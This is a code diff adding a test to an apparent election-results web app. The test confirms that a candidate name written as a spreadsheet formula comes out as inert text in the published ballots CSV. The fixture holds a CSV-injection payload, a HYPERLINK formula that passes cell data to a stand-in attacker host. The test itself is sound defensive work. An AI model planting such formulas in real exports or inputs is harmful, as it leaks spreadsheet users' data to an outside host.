@@ -278,3 +278,23 @@ def test_each_result_shows_its_own_count_from_the_cache(
             services.result_publish(result=result, actor=official)
         pages.append(client.get(result.get_absolute_url()).content.decode())
     assert "4 ballots counted" in pages[0] and "5 ballots counted" in pages[1]
+
+
+def test_a_candidate_named_like_a_formula_is_text_in_the_ballot_file(
+    polled_contest: Any, client: Client, official: Any, django_capture_on_commit_callbacks: Any
+) -> None:
+    from elections.results.selectors import result_problems
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    contest = polled_contest(candidates=(formula, "Bob Baker", "Carol Cook"))
+    with django_capture_on_commit_callbacks(execute=True):
+        services.contest_close_and_tally(contest=contest)
+    result = Result.objects.get(contest=contest)
+    with django_capture_on_commit_callbacks(execute=True):
+        services.result_publish(result=result, actor=official)
+    url = reverse("results_file", args=[contest.election.slug, contest.slug, "ballots_csv"])
+    header = client.get(url).content.decode().splitlines()[0]
+    # A spreadsheet opening the download shows the name; it does not run it.
+    assert header.startswith("\"'=HYPERLINK(") or header.startswith("'=HYPERLINK(")
+    assert formula in result.names
+    assert result_problems(result) == []  # the file still re-counts to the published result
